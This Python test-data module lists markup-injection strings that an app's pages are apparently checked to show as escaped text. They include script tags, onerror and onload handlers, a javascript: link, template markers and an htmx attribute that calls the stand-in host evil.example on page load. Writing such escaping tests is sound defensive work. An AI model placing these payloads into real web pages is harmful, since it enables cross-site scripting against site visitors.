"""Texts of apps, users and models with markup, which each page must show as text."""

from __future__ import annotations

MARKUP = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</title></textarea></pre></style><script>alert(1)</script>",
    "<a href=javascript:alert(1)>x</a>",
    '" hx-get="http://evil.example" hx-trigger="load" x="',
    "{{ 7 * 7 }}{% raw %}<b>",
    "<!--<script>",
    "&lt;script&gt;<iframe srcdoc='<script>alert(1)</script>'>",
    "\x00<b>\u2028\u202e<plaintext>",
]
"""Texts that break out of elements, attributes, comments or templates if they are not escaped."""
